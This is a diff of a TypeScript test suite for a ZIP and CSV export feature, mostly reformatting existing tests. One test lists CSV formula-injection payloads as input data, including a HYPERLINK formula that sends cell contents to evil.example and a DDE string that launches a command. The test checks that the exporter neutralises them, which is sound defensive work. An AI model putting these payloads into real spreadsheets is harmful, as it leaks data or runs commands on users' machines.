@@ -78,7 +78,10 @@ describe('ZIP export', () => {
 
   it('fails on a file that disappeared, naming it, and leaves nothing under the final name', async () => {
     const dir = tempDir()
-    const { items } = files(dir, Array.from({ length: 40 }, () => 10_000))
+    const { items } = files(
+      dir,
+      Array.from({ length: 40 }, () => 10_000)
+    )
     unlinkSync(items[25].path)
     const dest = join(dir, 'out.zip')
     const failed = await new ExportRun(items, { format: 'zip', destination: dest, template: '{job}', embedMetadata: false }, () => {}).run()
@@ -142,11 +145,14 @@ function parseCsv(text: string): string[][] {
 const zipOptions = (destination: string) => ({ format: 'zip' as const, destination, template: '{job}', embedMetadata: false })
 
 describe('CSV manifest against formula injection', () => {
-  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1', '  =1+1', '=cmd|\' /C calc\'!A0']
+  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1', '  =1+1', "=cmd|' /C calc'!A0"]
 
   it('prefixes every text cell a spreadsheet would run with a single quote, and leaves the JSON exact', async () => {
     const dir = tempDir()
-    const { items } = files(dir, formulas.map(() => 10))
+    const { items } = files(
+      dir,
+      formulas.map(() => 10)
+    )
     items.forEach((it, i) => {
       it.prompt = formulas[i]
       it.batchName = '=1+2'
@@ -188,7 +194,9 @@ describe('export destination', () => {
     for (const destination of ['out.zip', './out', '../elsewhere/out.zip', 'sub/dir', '']) {
       expect(() => new ExportRun(items, zipOptions(destination), () => {}), destination).toThrow(/must be an absolute path/)
     }
-    expect(() => checkAbsolutePath('Pictures/Batch Studio', 'The output folder')).toThrow(/The output folder must be an absolute path \(got "Pictures\/Batch Studio"\)/)
+    expect(() => checkAbsolutePath('Pictures/Batch Studio', 'The output folder')).toThrow(
+      /The output folder must be an absolute path \(got "Pictures\/Batch Studio"\)/
+    )
     expect(() => checkAbsolutePath('/tmp/a\0b', 'The output folder')).toThrow(/NUL/)
     expect(checkAbsolutePath('/tmp/a/../b//c', 'x')).toBe('/tmp/b/c')
     expect(existsSync('out.zip')).toBe(false)
@@ -198,7 +206,10 @@ describe('export destination', () => {
     for (const intruder of ['file', 'folder'] as const) {
       it(`keeps a ${intruder} that appeared at the destination during a ${format} export, and fails saying so`, async () => {
         const dir = tempDir()
-        const { items } = files(dir, Array.from({ length: 60 }, () => 20_000))
+        const { items } = files(
+          dir,
+          Array.from({ length: 60 }, () => 20_000)
+        )
         const dest = join(dir, format === 'zip' ? 'out.zip' : 'out')
         let made = false
         const result = await new ExportRun(items, { ...zipOptions(dest), format }, (p) => {
@@ -236,8 +247,20 @@ describe('manifest for 10,000 files', () => {
   it('is streamed as the text JSON.stringify gives for the whole', () => {
     const few = files(tempDir(), [1, 2]).items
     const at = new Date(Date.UTC(2026, 0, 2))
-    const whole = (list: ExportItem[]) => JSON.parse([...manifestJson(list, list.map((_, i) => `${i}.bin`), at)].join('')) as unknown
-    expect(whole(few)).toEqual({ exportedAt: at.toISOString(), files: few.map((it, i) => expect.objectContaining({ file: `${i}.bin`, prompt: it.prompt, job_id: it.jobId })) })
+    const whole = (list: ExportItem[]) =>
+      JSON.parse(
+        [
+          ...manifestJson(
+            list,
+            list.map((_, i) => `${i}.bin`),
+            at
+          )
+        ].join('')
+      ) as unknown
+    expect(whole(few)).toEqual({
+      exportedAt: at.toISOString(),
+      files: few.map((it, i) => expect.objectContaining({ file: `${i}.bin`, prompt: it.prompt, job_id: it.jobId }))
+    })
     expect(whole([])).toEqual({ exportedAt: at.toISOString(), files: [] })
   })
 
@@ -265,7 +288,9 @@ describe('manifest for 10,000 files', () => {
     peak = Math.max(peak, used())
     expect(done.state).toBe('done')
     const grew = (peak - before) / 1024 / 1024
-    console.log(`manifest of ${items.length} rows × ${prompt.length} chars: memory grew by ${grew.toFixed(0)} MB at most (from ${(before / 1048576).toFixed(0)} MB)`)
+    console.log(
+      `manifest of ${items.length} rows × ${prompt.length} chars: memory grew by ${grew.toFixed(0)} MB at most (from ${(before / 1048576).toFixed(0)} MB)`
+    )
     expect(grew).toBeLessThan(100)
     const entries = await readZip(dest)
     expect(entries.get('manifest.csv')!.toString().split('\r\n')).toHaveLength(items.length + 2)
